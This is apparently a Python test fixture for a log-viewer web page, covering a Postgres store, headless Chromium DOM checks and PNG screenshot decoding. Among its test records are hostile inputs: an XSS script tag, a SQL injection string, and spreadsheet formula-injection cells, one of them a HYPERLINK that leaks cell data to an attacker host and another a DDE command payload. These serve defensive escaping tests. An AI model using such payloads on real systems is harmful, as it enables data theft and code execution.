"""The page's test fixture: a private store filled through vardel.ingest,
vardel-page over it with the reader role, Debian's chromium headless, the
views' DOM as a parser reads it, and screenshots checked pixel by pixel."""

import datetime
import html.parser
import json
import os
import shutil
import signal
import socket
import struct
import subprocess
import sys
import tempfile
import time
import urllib.error
import urllib.parse
import urllib.request
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))
CLUSTER = os.path.join(HERE, "..", "..", "store", "cluster.sh")
PSQL = "/usr/lib/postgresql/15/bin/psql"
CHROMIUM = "/usr/bin/chromium"
SCRIPT = "<script>alert(1)</script>"
INJECTION = "' OR 1=1 --"
TRICKY_SOURCE = 'Module "Pump", step 3\nline two'

# pc-formula's sources and messages, as written.
FORMULAS = [('=HYPERLINK("http://attacker.invalid/?leak="&A2&B2,"Click for details")', "+cmd|' /C calc'!A0"),
            ("@SUM(1+1)", "-2+3"), ("\tTab first", "\rCR first")]
# pc-denver's records, all without an instant.
UNKNOWN_TYPES = ["ERROR", "WARNING", "INFORMATION"]
# pc-old's records of Log_1900_01_01.log: with an instant, and without.
OLD_KNOWN, OLD_UNKNOWN = 3, 2

# What is written: host -> (type -> count); errors and warnings are what the
# overview counts.
WRITTEN = {
    "pc-alpha": {"ERROR": 3, "WARNING": 2, "FATAL_ERROR": 1, "INFORMATION": 2},
    "pc-beta": {"ERROR": 1, "WARNING": 4},
    "pc-gamma": {"INFORMATION": 3},
}


def fail(why):
    """A tool the set-up installs that is missing, or a product script that
    fails, is a failure of the test, said with its cause."""
    print("FAIL: " + why)
    sys.exit(1)


def check_chromium():
    if not os.access(CHROMIUM, os.X_OK):
        fail("Chromium cannot start: %s missing (scripts/setup.sh installs chromium)" % CHROMIUM)
    probe = subprocess.run([CHROMIUM, "--version"], capture_output=True, text=True, timeout=30)
    if probe.returncode != 0:
        fail("Chromium cannot start: " + probe.stderr.strip())


def free_port():
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


class Dom(html.parser.HTMLParser):
    """The parts of a view the checks read: overview rows, record rows,
    script elements, all text, links."""

    def __init__(self, text):
        super().__init__()
        self.scripts = 0
        self.hosts = {}       # overview: host -> {warnings, errors, fatal, latest}
        self.records = []     # records: one dict per row, cell class -> text
        self.links = {}
        self.anchors = []     # (class, href, text) of every link
        self.elements = []    # (tag, attributes) of every element
        self._in_anchor = False
        self.text = []
        self._host = None
        self._row = None
        self._cell = None
        self._link = None
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        cls = a.get("class", "")
        self.elements.append((tag, a))
        if tag == "a":
            self.anchors.append([cls, a.get("href"), ""])
            self._in_anchor = True
        if tag == "script":
            self.scripts += 1
        if tag == "tr" and "data-host" in a:
            self._host = a["data-host"]
            self.hosts[self._host] = {}
        if tag == "tr" and cls == "record":
            self._row = {}
            self.records.append(self._row)
        if tag == "td":
            self._cell = cls or "td%d" % len(self._row or {})
            target = self._row if self._row is not None else (self.hosts.get(self._host))
            if target is not None:
                target.setdefault(self._cell, "")
        if tag == "a" and "id" in a:
            self._link = a["id"]
            self.links[a["id"]] = a.get("href")

    def handle_endtag(self, tag):
        if tag == "a":
            self._in_anchor = False
        if tag == "tr":
            self._host = None
            self._row = None
        if tag == "td":
            self._cell = None

    def handle_data(self, data):
        self.text.append(data)
        if self._in_anchor:
            self.anchors[-1][2] += data
        target = self._row if self._row is not None else self.hosts.get(self._host)
        if target is not None and self._cell is not None:
            target[self._cell] += data


class Run:
    def __init__(self, args):
        self.args = args
        self.work = tempfile.mkdtemp(prefix="vardel-page-")
        os.chmod(self.work, 0o755)
        self.pg = os.path.join(self.work, "pg")
        self.pages = []
        self.failures = []
        self.browser_profile = 0

    def check(self, ok, what):
        print(("ok    " if ok else "FAIL  ") + what)
        if not ok:
            self.failures.append(what)

    # The store.
    def start_store(self):
        out = subprocess.run(["bash", CLUSTER, "start", self.pg], capture_output=True, text=True, timeout=120)
        if out.returncode != 0:
            fail("the store cannot start (collect/store/cluster.sh start, exit %d): %s" %
                 (out.returncode, out.stderr.strip()))
        values = dict(line.split("=", 1) for line in out.stdout.split())
        self.port, self.socket = values["port"], values["socket"]
        out = subprocess.run(["bash", CLUSTER, "schema", self.pg], capture_output=True, text=True, timeout=120)
        if out.returncode != 0:
            fail("the store's schema does not apply (exit %d): %s" % (out.returncode, out.stderr.strip()))

    def sql(self, text):
        cmd = [PSQL, "-X", "-q", "-At", "-v", "ON_ERROR_STOP=1", "-h", self.socket, "-p", self.port, "-U", "postgres",
               "-d", "vardel", "-f", "-"]
        if os.getuid() == 0:
            cmd = ["runuser", "-u", "postgres", "--"] + cmd
        out = subprocess.run(cmd, input=text, capture_output=True, text=True, timeout=60)
        if out.returncode != 0:
            raise RuntimeError("psql failed: " + out.stderr)
        return out.stdout

    def load(self):
        now = datetime.datetime.now(datetime.timezone.utc)
        day_file = now.strftime("Log_%Y_%m_%d.log")
        time_text = now.strftime("%a %b %d %I:%M:%S %p Coordinated Universal Time")
        statements = []
        offset = 0

        def ingest(host, type_, source, message, time=time_text, level="RELEASE"):
            nonlocal offset
            record = {"host": host, "file": day_file, "offset": offset, "time": time, "type": type_,
                      "level": level, "source": source, "message": message}
            offset += 100
            statements.append("select vardel.ingest($vardel$%s$vardel$, now());" % json.dumps(record))

        for host, types in WRITTEN.items():
            for type_, count in types.items():
                for i in range(count):
                    ingest(host, type_, "Station %s" % host, "%s number %d" % (type_.lower(), i))
        # Hostile and awkward texts, each replacing one ordinary record above.
        statements.pop()  # pc-gamma's third INFORMATION
        ingest("pc-gamma", "INFORMATION", TRICKY_SOURCE, "plain, with \"quotes\"", level="TRACE")
        beta_error = [i for i, s in enumerate(statements) if '"pc-beta"' in s and '"ERROR"' in s][0]
        del statements[beta_error]
        ingest("pc-beta", "ERROR", INJECTION, SCRIPT)
        alpha_warning = [i for i, s in enumerate(statements) if '"pc-alpha"' in s and '"WARNING"' in s][0]
        del statements[alpha_warning]
        ingest("pc-alpha", "WARNING", "Station pc-alpha", "clock unknown", time=now.strftime("%a %b %d %I:%M:%S %p Olympus Mons Standard Time"))
        # Cells a spreadsheet would run.
        for i, (source, message) in enumerate(FORMULAS):
            ingest("pc-formula", "INFORMATION", source, message)
        # A PC whose clock's zone is unknown: no instant, a day file of yesterday.
        day_file = (now - datetime.timedelta(days=1)).strftime("Log_%Y_%m_%d.log")
        offset = 0
        for type_ in UNKNOWN_TYPES:
            ingest("pc-denver", type_, "Station pc-denver", "unknown zone " + type_.lower(),
                   time=now.strftime("%a %b %d %I:%M:%S %p Olympus Mons Standard Time"))
        day_file = now.strftime("Log_%Y_%m_%d.log")
        self.sql("\n".join(statements))
        # Records of a 1900 day file, with and without an instant: keys before 1970.
        self.sql("""select vardel.day_partition('1900-01-01');
                    insert into vardel.records (host, file, file_day, file_offset, received, time_text, type, level,
                                                source, message, utc, unknown)
                    select 'pc-old', 'Log_1900_01_01.log', date '1900-01-01', g * 10, now(), 'old ' || g,
                           'INFORMATION', 'RELEASE', 'old', 'old record ' || g,
                           case when g <= %d then timestamptz '1900-01-01T09:00:00Z' + g * interval '1 hour' end,
                           case when g > %d then 'no zone' end
                      from generate_series(1, %d) g""" % (OLD_KNOWN, OLD_KNOWN, OLD_KNOWN + OLD_UNKNOWN))
        # A record at a known instant, for the zones: summer time in both.
        self.sql("""insert into vardel.records (host, file, file_day, file_offset, received, time_text, type, level,
                                               source, message, utc)
                    select 'pc-gamma', '%s', vardel.file_day('%s'), 999999, now(), 'Wed Jul 01 12:00:00 PM UTC',
                           'INFORMATION', 'DEBUG', 'zone check', 'at noon UTC', '2026-07-01T12:00:00Z'""" %
                 (day_file, day_file))

    # The page.
    def start_page(self, store, name):
        port = free_port()
        log = open(os.path.join(self.work, name + ".log"), "w")
        proc = subprocess.Popen([self.args.page, "--port", str(port), "--store", store], stdout=log,
                                stderr=subprocess.STDOUT, start_new_session=True)
        self.pages.append(proc)
        base = "http://127.0.0.1:%d" % port
        deadline = time.monotonic() + 15
        while time.monotonic() < deadline:
            if proc.poll() is not None:
                raise RuntimeError("vardel-page ended: " + open(log.name).read())
            # It says so once it listens.
            if "listening on" in open(log.name).read():
                return base, log.name
            time.sleep(0.05)
        raise RuntimeError("vardel-page does not listen")

    def get(self, url):
        try:
            with urllib.request.urlopen(url, timeout=30) as r:
                return r.status, r.read().decode("utf-8")
        except urllib.error.HTTPError as e:
            return e.code, e.read().decode("utf-8")

    # The browser.
    def chromium(self, *args):
        self.browser_profile += 1
        profile = os.path.join(self.work, "chromium-%d" % self.browser_profile)
        os.makedirs(profile)
        cmd = [CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
               "--disable-background-networking", "--disable-component-update", "--disable-sync",
               "--user-data-dir=" + profile] + list(args)
        try:
            out = subprocess.run(cmd, capture_output=True, text=True, timeout=90, start_new_session=True)
        except subprocess.TimeoutExpired:
            raise RuntimeError("chromium did not finish within 90 s: " + " ".join(args))
        return out

    def dom(self, url):
        out = self.chromium("--dump-dom", url)
        if out.returncode != 0 or "<html" not in out.stdout:
            raise RuntimeError("chromium could not load %s: %s" % (url, out.stderr[-2000:]))
        return Dom(out.stdout)

    def served(self, url):
        """The DOM of a view as served (the pages run no script, so the
        browser's DOM is the same; the browser checks above prove that)."""
        status, text = self.get(url)
        if status != 200:
            raise RuntimeError("%s: %d" % (url, status))
        return Dom(text)

    def screenshot(self, url, name, words, expect=True):
        """A screenshot of a view, taken only if it shows the page itself: the
        page's header bar across the top, enough drawn pixels for the view's
        text, and each of `words` in the DOM the browser built."""
        os.makedirs(self.args.screenshots, exist_ok=True)
        path = os.path.join(self.args.screenshots, name + ".png")
        if os.path.exists(path):
            os.remove(path)
        self.chromium("--screenshot=" + path, "--window-size=1280,900", "--hide-scrollbars", url)
        if not os.path.exists(path):
            self.check(False, "screenshot %s taken" % path)
            return None
        width, height, pixels = png_pixels(path)
        header = sum(1 for x in range(0, width, 8) if near(pixels[4 * width + x], (0x23, 0x31, 0x3F)))
        ink = sum(1 for p in pixels if sum(p[:3]) < 3 * 140)
        dom = self.dom(url)
        text = " ".join(dom.text)
        missing = [w for w in words if w not in text]
        ok = header > width // 8 * 0.9 and ink > 3000 and not missing
        self.check(ok == expect, "screenshot %s%s: header bar %d/%d, %d dark pixels, words missing %s" %
                   ("" if expect else "refused, as it must be: ", name, header, width // 8, ink, missing))
        return pixels, width

    def result(self):
        """The test's exit code, said."""
        if self.failures:
            print("%d checks failed" % len(self.failures))
            return 1
        print("all checks passed")
        return 0

    def close(self):
        for proc in self.pages:
            if proc.poll() is None:
                os.killpg(proc.pid, signal.SIGTERM)
                try:
                    proc.wait(timeout=10)
                except subprocess.TimeoutExpired:
                    os.killpg(proc.pid, signal.SIGKILL)
        subprocess.run(["bash", CLUSTER, "stop", self.pg], timeout=120)
        shutil.rmtree(self.work, ignore_errors=True)




def near(pixel, rgb, tolerance=6):
    return all(abs(pixel[i] - rgb[i]) <= tolerance for i in range(3))


def png_pixels(path):
    """(width, height, [(r, g, b[, a])...]) of an 8-bit RGB or RGBA PNG, as
    chromium writes them; decoded here so that the check needs nothing of
    the page's."""
    data = open(path, "rb").read()
    if data[:8] != b"\x89PNG\r\n\x1a\n":
        raise RuntimeError(path + ": not a PNG")
    pos, idat = 8, b""
    while pos < len(data):
        length, kind = struct.unpack(">I4s", data[pos:pos + 8])
        chunk = data[pos + 8:pos + 8 + length]
        if kind == b"IHDR":
            width, height, depth, color, _, _, interlace = struct.unpack(">IIBBBBB", chunk)
        elif kind == b"IDAT":
            idat += chunk
        pos += 12 + length
    if depth != 8 or color not in (2, 6) or interlace:
        raise RuntimeError("%s: PNG of depth %d, color %d, interlace %d not read here" % (path, depth, color, interlace))
    size = 3 if color == 2 else 4
    raw = zlib.decompress(idat)
    stride = width * size
    rows, prev = [], bytearray(stride)
    for y in range(height):
        kind = raw[y * (stride + 1)]
        line = bytearray(raw[y * (stride + 1) + 1:(y + 1) * (stride + 1)])
        for i in range(stride):
            a = line[i - size] if i >= size else 0
            b = prev[i]
            c = prev[i - size] if i >= size else 0
            if kind == 1:
                line[i] = (line[i] + a) & 255
            elif kind == 2:
                line[i] = (line[i] + b) & 255
            elif kind == 3:
                line[i] = (line[i] + (a + b) // 2) & 255
            elif kind == 4:
                pa, pb, pc = abs(b - c), abs(a - c), abs(a + b - 2 * c)
                line[i] = (line[i] + (a if pa <= pb and pa <= pc else b if pb <= pc else c)) & 255
        rows.append(line)
        prev = line
    pixels = [tuple(row[x * size:(x + 1) * size]) for row in rows for x in range(width)]
    return width, height, pixels
